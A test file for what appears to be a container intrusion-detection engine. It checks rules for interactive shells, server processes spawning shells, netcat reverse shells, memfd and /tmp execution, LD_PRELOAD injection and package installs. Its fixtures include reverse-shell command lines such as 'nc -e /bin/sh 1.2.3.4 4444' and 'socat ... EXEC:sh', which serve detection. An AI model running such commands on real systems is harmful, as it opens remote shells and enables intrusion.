import { beforeEach, describe, expect, it } from 'vitest';
import { Scenario } from '../testing/scenario.ts';
import { BUSYBOX, MEMFD, names, SHIPPED, Shop, TTY, UPPER, WRITE } from '../testing/shop.ts';

let shop: Shop;
beforeEach(() => {
  shop = new Shop();
});

describe('Interactive shell in a container', () => {
  const rule = 'Interactive shell in a container';
  it('at the entrypoint, by exec, by another name, as a busybox applet', () => {
    expect(names(shop.node.exec(500, { path: '/bin/bash', args: ['bash'], ppid: 9, more: TTY }))).toEqual([rule]);
    expect(shop.run('/bin/bash', ['bash'], 200, TTY)).toEqual([rule]);
    expect(names(shop.node.exec(501, { path: '/usr/bin/bash', comm: 'x', args: ['x'], more: TTY }))).toEqual([rule]);
    expect(shop.applet(['sh'], 200, TTY)).toEqual([rule]);
    expect(
      names(shop.node.exec(502, { path: BUSYBOX, comm: 'busybox', args: ['busybox', 'ash', '-i'], more: TTY })),
    ).toEqual([rule]);
  });
  it('not without a terminal, and not for other programs', () => {
    expect(names(shop.node.exec(500, { path: '/bin/bash', args: ['sh', '-c', 'sleep 9'], ppid: 9 }))).toEqual([]);
    expect(shop.run('/bin/ls', ['ls'], 200, TTY)).toEqual([]);
    expect(shop.applet(['ls', '-l', 'sh'], 200, TTY)).toEqual([]);
  });
});

describe('Server process starts a shell', () => {
  it('web servers and data servers', () => {
    expect(shop.run('/bin/dash', ['sh', '-c', 'id'], 210)).toContain('Server process starts a shell');
    shop.node.exec(230, { path: '/usr/lib/postgresql/bin/postgres', ppid: 150 });
    expect(shop.run('/bin/dash', ['sh', '-c', 'id'], 230)).toEqual(['Server process starts a shell']);
    shop.node.exec(231, { path: '/usr/sbin/php-fpm8.2', ppid: 150 });
    expect(shop.applet(['sh', '-c', 'id'], 231)).toContain('Server process starts a shell');
  });
  it('also by way of a worker that exits', () => {
    shop.node.fork(211, 210, { comm: 'nginx' });
    shop.node.fork(300, 211, { comm: 'nginx' });
    shop.node.exit(211);
    expect(names(shop.node.exec(300, { path: '/bin/dash', args: ['sh'], ppid: 1 }))).toContain(
      'Server process starts a shell',
    );
  });
  it('not a shell that starts the server, nor what is no shell', () => {
    expect(shop.run('/bin/dash', ['sh', '-c', 'id'], 200)).toEqual([]);
    expect(shop.run('/usr/bin/nginx-helper', ['nginx-helper'], 210)).toEqual([]);
    expect(shop.run('/usr/sbin/nginx', ['nginx'], 200)).toEqual([]);
  });
});

describe('Web server runs an interpreter', () => {
  const rule = 'Web server runs an interpreter';
  it('a shell, or code on the command line', () => {
    expect(shop.run('/bin/dash', ['sh', '-c', 'id'], 210)).toEqual(['Server process starts a shell', rule]);
    expect(shop.run('/usr/bin/python3.11', ['python3', '-c', 'import os'], 210)).toEqual([rule]);
    expect(shop.run('/usr/bin/perl', ['perl', '-e', 'print'], 210)).toEqual([rule]);
    shop.node.exec(240, { path: '/bin/dash', comm: 'sh', ppid: 210 });
    expect(shop.run('/usr/bin/php8.2', ['php', '-r', 'x'], 240)).toEqual([rule]);
  });
  it('not a script, and not below other programs', () => {
    expect(shop.run('/usr/bin/python3.11', ['python3', '/srv/app.py'], 210)).toEqual([]);
    expect(shop.run('/usr/bin/python3.11', ['python3', '-c', 'import os'], 200)).toEqual([]);
  });
});

describe('Java process starts a shell', () => {
  it('java, also through its spawn helper', () => {
    expect(shop.run('/bin/bash', ['bash', '-c', 'id'], 220)).toEqual(['Java process starts a shell']);
    shop.node.exec(221, { path: '/opt/java/lib/jspawnhelper', ppid: 220 });
    expect(shop.run('/bin/bash', ['bash', '-c', 'id'], 221)).toEqual(['Java process starts a shell']);
  });
  it('not another program', () => {
    expect(shop.run('/usr/bin/tar', ['tar', 'x'], 220)).toEqual([]);
  });
});

describe('Netcat runs a program on a connection', () => {
  const rule = 'Netcat runs a program on a connection';
  it.each([
    ['/usr/bin/nc.traditional', ['nc', '-e', '/bin/sh', '1.2.3.4', '4444']],
    ['/usr/bin/nc.traditional', ['nc', '1.2.3.4', '4444', '-e', '/bin/sh']],
    ['/usr/bin/nc.traditional', ['nc', '-lvpe', '/bin/sh']],
    ['/usr/bin/ncat', ['ncat', '--sh-exec', 'sh', '1.2.3.4']],
    ['/usr/bin/ncat', ['ncat', '-c', 'sh', '1.2.3.4']],
    ['/usr/bin/socat', ['socat', 'TCP:1.2.3.4:1', 'EXEC:sh']],
  ])('%s %j', (path, args) => {
    shop.node.fork(500, 200);
    expect(names(shop.node.exec(500, { path, args, comm: args[0] as string, ppid: 200 }))).toEqual([rule]);
  });
  it('busybox, as an applet and by argument', () => {
    expect(shop.applet(['nc', '127.0.0.1', '9', '-e', '/bin/sh'])).toEqual([rule]);
    expect(shop.run(BUSYBOX, ['busybox', 'nc', '127.0.0.1', '9', '-e', '/bin/sh'])).toEqual([rule]);
  });
  it.each([
    ['/usr/bin/nc.openbsd', ['nc', '-zv', 'my-service', '80']],
    ['/usr/bin/nc.openbsd', ['nc', '-w', '3', 'e.example', '80']],
    ['/usr/bin/socat', ['socat', 'TCP:1.2.3.4:1', '-']],
    ['/usr/bin/ncat', ['ncat', '-l', '80']],
    ['/usr/bin/find', ['find', '/', '-e', 'x']],
  ])('not %s %j', (path, args) => {
    expect(shop.run(path, args)).toEqual([]);
  });
});

describe('programs from odd places', () => {
  it('not in the image', () => {
    expect(shop.run('/usr/local/bin/tool', ['tool'], 200, UPPER)).toEqual(['Program that is not in the image']);
    expect(shop.run('/usr/local/bin/tool', ['tool'])).toEqual([]);
  });
  it('from memory', () => {
    expect(shop.run('/memfd:x', ['x'], 200, MEMFD)).toEqual(['Program run from memory']);
  });
  it('through a descriptor', () => {
    const rule = 'Program run through a descriptor';
    expect(shop.run('/usr/bin/x', ['x'], 200, { filename: '/proc/self/fd/5' })).toEqual([rule]);
    expect(shop.run('/usr/bin/x', ['x'], 200, { filename: '/dev/fd/5' })).toEqual([rule]);
    expect(shop.run('/usr/bin/x', ['x'], 200, { filename: '/proc/self/exe' })).toEqual([]);
  });
  it('from a scratch directory, scripts too', () => {
    const rule = 'Program run from a scratch directory';
    expect(shop.run('/tmp/x', ['/tmp/x'])).toEqual([rule]);
    expect(shop.run('/dev/shm/.x', ['x'])).toEqual([rule]);
    expect(shop.run('/var/tmp/a/b', ['b'])).toEqual([rule]);
    expect(shop.run('/bin/dash', ['/tmp/x.sh'], 200, { filename: '/tmp/x.sh' })).toEqual([rule]);
    expect(shop.run('/bin/dash', ['./x.sh'], 200, { filename: './x.sh', cwd: '/tmp/work' })).toEqual([rule]);
    expect(shop.run('/bin/dash', ['sh', '/tmp/x.sh'], 200, { cwd: '/tmp' })).toEqual([]);
    expect(shop.run('/usr/bin/tmpwatch', ['tmpwatch', '/tmp'])).toEqual([]);
    expect(shop.run('/srv/tmp/x', ['x'])).toEqual([]);
  });
});

describe('the first steps of the runtime', () => {
  const sealed = {
    path: '/memfd:runc_cloned:/proc/self/exe',
    comm: '6',
    args: ['runc', 'init'],
    more: { ...MEMFD, filename: '/dev/fd/6' },
  };

  /** A process of the host that just began, as the first records of a container show it. */
  const justForked = (pid: number) => ({ start: shop.node.time - 1_000_000, tgid: pid });

  it('are no finding', () => {
    expect(names(shop.node.exec(600, { ...sealed, ppid: 77, vpid: 600, header: justForked(600) }))).toEqual([]);
    expect(
      names(
        shop.node.exec(601, {
          path: '/usr/sbin/runc',
          args: ['runc', 'init'],
          ppid: 77,
          vpid: 601,
          more: UPPER,
          header: justForked(601),
        }),
      ),
    ).toEqual([]);
    shop.node.fork(602, 77, { parent_tid: 600, comm: 'runc:[1:CHILD]', vpid: 1 });
    const before = new Scenario(SHIPPED);
    before.container();
    before.fork(602, 77, { parent_tid: 600, comm: 'runc:[1:CHILD]', vpid: 1 });
    expect(names(before.open(602, '/usr/lib/libdriver.so.1', WRITE))).toEqual([]);
    expect(names(before.exec(602, { path: '/bin/sh', args: ['sh', '-c', 'sleep 5'], ppid: 77, vpid: 1 }))).toEqual([]);
    expect(names(before.open(602, '/usr/lib/libdriver.so.1', WRITE))).toEqual(['Program or library directory written']);
  });

  it('can not be played by a process of the container', () => {
    const rule = 'Program run from memory';
    shop.node.fork(610, 200);
    expect(names(shop.node.exec(610, { ...sealed, ppid: 200, vpid: 44 })), 'from a shell').toEqual([rule]);
    shop.node.fork(611, 200);
    expect(names(shop.node.exec(611, { ...sealed, ppid: 200, vpid: 611 })), 'with the pids of the host').toEqual([
      rule,
    ]);
    shop.node.fork(612, 9, { parent_tid: 200 });
    expect(names(shop.node.exec(612, { ...sealed, ppid: 9, vpid: 612 })), 'given the parent of its parent').toEqual([
      rule,
    ]);
    shop.node.fork(613, 200);
    shop.node.fork(614, 613);
    shop.node.exit(613);
    expect(names(shop.node.exec(614, { ...sealed, ppid: 1, vpid: 614 })), 'orphaned').toEqual([rule]);
    expect(
      names(shop.node.exec(615, { ...sealed, ppid: 77, vpid: 44, header: justForked(615) })),
      'in the pid namespace',
    ).toEqual([rule]);
    expect(
      names(shop.node.exec(617, { ...sealed, ppid: 77, vpid: 617, header: { time: shop.node.time + 6e9 } })),
      'long after it began',
    ).toEqual([rule]);
    shop.node.fork(616, 200, { comm: 'runc:[2:INIT]', vpid: 1 });
    expect(names(shop.node.open(616, '/usr/bin/ls', WRITE)), 'by name').toEqual([
      'Program or library directory written',
    ]);
  });
});

describe('Library preloaded into a program', () => {
  const rule = 'Library preloaded into a program';
  it.each(['/tmp/x.so', './x.so', '/usr/lib/a.so:/tmp/x.so', '/usr/lib/../../tmp/x.so', '/usr/lib/a.so /dev/shm/x.so'])(
    '%s',
    (library) => {
      expect(shop.run('/bin/ls', ['ls'], 200, { env: [`LD_PRELOAD=${library}`] })).toEqual([rule]);
    },
  );
  it('also as an auditor', () => {
    expect(shop.run('/bin/ls', ['ls'], 200, { env: ['LD_AUDIT=/usr/lib/a.so'] })).toEqual([rule]);
  });
  it('not a library of the image', () => {
    expect(
      shop.run('/bin/ls', ['ls'], 200, { env: ['LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'] }),
    ).toEqual([]);
    expect(shop.run('/bin/ls', ['ls'], 200, { env: ['LD_PRELOAD=', 'LANG=C'] })).toEqual([]);
  });
});

describe('Package manager run in a container', () => {
  const rule = 'Package manager run in a container';
  it('once, not again for its children', () => {
    expect(shop.run('/usr/bin/apt-get', ['apt-get', 'install', 'nmap'])).toEqual([rule]);
    shop.node.exec(310, { path: '/usr/bin/apt-get', ppid: 200 });
    expect(shop.run('/usr/bin/dpkg', ['dpkg', '-i', 'x.deb'], 310)).toEqual([]);
    expect(shop.run('/sbin/apk', ['apk', 'add', 'nmap'])).toEqual([rule]);
    expect(shop.run('/usr/bin/dpkg', ['dpkg', '-i', 'x.deb'])).toEqual([rule]);
  });
  it('not a query', () => {
    expect(shop.run('/usr/bin/dpkg', ['dpkg', '-l'])).toEqual([]);
    expect(shop.run('/usr/bin/rpm', ['rpm', '-qa'])).toEqual([]);
    expect(shop.run('/sbin/apk', ['apk', 'info'])).toEqual([]);
    expect(shop.run('/usr/bin/dpkg-query', ['dpkg-query', '-W'])).toEqual([]);
  });
});
